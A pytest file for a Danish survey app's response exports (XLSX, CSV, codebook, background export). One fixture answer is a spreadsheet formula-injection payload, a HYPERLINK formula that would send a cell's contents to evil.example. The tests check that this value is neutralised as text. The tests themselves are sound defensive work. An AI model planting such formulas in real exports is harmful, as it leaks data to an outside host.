"""Issue 11, what must hold 7: the XLSX export opened with openpyxl has one row per response and the
documented columns (multiple choice one column per option, matrix one per statement), and a free
text »=HYPERLINK(…)« is a string. The background export reports progress and is downloadable."""

import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from consultations.models import SurveyExport, SurveyResponse
from consultations.surveys import exports
from tests.consultations.survey_factories import SurveyIndexPageFactory, make_survey

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
def survey_with_answers(home_page):
    page = make_survey(SurveyIndexPageFactory(parent=home_page))
    qs = {q.key: q for q in page.questionnaire.questions}

    def opt(key, label):
        return next(o.id for o in qs[key].options if o.label == label or o.label.startswith(label + " "))

    matrix = qs["udsagn"]
    SurveyResponse.objects.create(
        survey=page,
        answers={
            qs["kontakt"].id: opt("kontakt", "Ja"),
            qs["kanal"].id: opt("kanal", "Telefon"),
            qs["alder"].id: 34.5,
            qs["tilfreds"].id: "dk",
            qs["hjalp"].id: [opt("hjalp", "Kurser"), opt("hjalp", "Praktik")],
            qs["udsagn"].id: {matrix.statements[0].id: opt("udsagn", "Enig")},
            qs["kommentar"].id: EVIL,
        },
    )
    SurveyResponse.objects.create(
        survey=page,
        answers={qs["kontakt"].id: opt("kontakt", "Nej"), qs["tilfreds"].id: "4", qs["moede"].id: "2026-03-01"},
    )
    return page


def workbook(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_xlsx_has_one_row_per_response_and_the_documented_columns(survey_with_answers, staff_client):
    page = survey_with_answers
    response = staff_client.get(f"/admin/undersoegelser/{page.pk}/eksport/svar.xlsx")
    assert response.status_code == 200
    sheet = workbook(response).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == [
        "svar-id",
        "panel",
        "kontakt",
        "kanal",
        "alder",
        "tilfreds",
        "hjalp: Samtaler",
        "hjalp: Kurser",
        "hjalp: Praktik",
        "hjalp: Løntilskud",
        "udsagn: Jeg blev mødt med respekt",
        "udsagn: Jeg fik svar til tiden",
        "moede",
        "kommentar",
    ]
    assert len(rows) == 3
    by_contact = {row[2]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    yes = by_contact["Ja"]
    assert (yes["kanal"], yes["alder"], yes["tilfreds"]) == ("Telefon", "34,5", "Ved ikke")
    assert [yes[f"hjalp: {o}"] for o in ("Samtaler", "Kurser", "Praktik", "Løntilskud")] == ["0", "1", "1", "0"]
    assert yes["udsagn: Jeg blev mødt med respekt"] == "Enig" and yes["udsagn: Jeg fik svar til tiden"] is None
    no = by_contact["Nej"]
    assert no["hjalp: Kurser"] is None  # not shown to her: an empty cell, not 0
    assert no["moede"] == "2026-03-01"
    yes_row = 2 if rows[1][2] == "Ja" else 3
    comment = sheet.cell(row=yes_row, column=14)
    assert comment.data_type == "s" and comment.value == EVIL  # a string cell, never a formula


def test_csv_and_codebook(survey_with_answers, staff_client):
    page = survey_with_answers
    csv = b"".join(staff_client.get(f"/admin/undersoegelser/{page.pk}/eksport/svar.csv").streaming_content).decode()
    lines = csv.lstrip("\ufeff").splitlines()
    assert len(lines) == 3
    assert "'=HYPERLINK(" in csv  # quote-prefixed: Excel shows it as text
    assert ";=HYPERLINK" not in csv and ';"=HYPERLINK' not in csv
    book = workbook(staff_client.get(f"/admin/undersoegelser/{page.pk}/eksport/kodebog.xlsx")).active
    codebook = {row[0].value: row for row in book.iter_rows(min_row=2)}
    assert codebook["tilfreds"][3].value == "1 – Meget utilfreds; 2; 3; 4; 5 – Meget tilfreds; Ved ikke"
    assert codebook["kanal"][4].value.startswith("Besvares kun, hvis du har svaret »Ja«")
    assert codebook["hjalp: Kurser"][3].value == "1 = valgt, 0 = ikke valgt, tom = ikke besvaret"


def test_background_export_reports_progress_and_downloads(
    survey_with_answers, staff_client, monkeypatch, django_capture_on_commit_callbacks
):
    page = survey_with_answers
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 1)
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(f"/admin/undersoegelser/{page.pk}/eksport/svar.xlsx")
    assert response.status_code == 302
    export = SurveyExport.objects.get(survey=page)  # the immediate backend ran the task at commit
    assert export.status == "done" and export.done == 2 and export.percent == 100
    detail = staff_client.get(f"/admin/undersoegelser/{page.pk}/").content.decode()
    assert f"/admin/undersoegelser/eksport/{export.pk}/hent/" in detail
    download = staff_client.get(f"/admin/undersoegelser/eksport/{export.pk}/hent/")
    sheet = workbook(download).active
    assert sheet.max_row == 3


def test_an_expired_background_export_sends_back_to_the_survey_with_a_message(
    survey_with_answers, staff_client, settings, django_capture_on_commit_callbacks
):
    page = survey_with_answers
    settings.EXPORT_KEEP_HOURS = 2
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(f"/admin/undersoegelser/{page.pk}/eksport/svar.xlsx")
    export = SurveyExport.objects.get(survey=page)
    SurveyExport.objects.filter(pk=export.pk).update(finished_at=export.finished_at - timedelta(hours=3))
    download = staff_client.get(f"/admin/undersoegelser/eksport/{export.pk}/hent/")
    assert download.status_code == 302 and download.url == f"/admin/undersoegelser/{page.pk}/"
    back = staff_client.get(download.url).content.decode()
    assert "Eksporten er ikke færdig eller er udløbet. Lav en ny eksport." in back
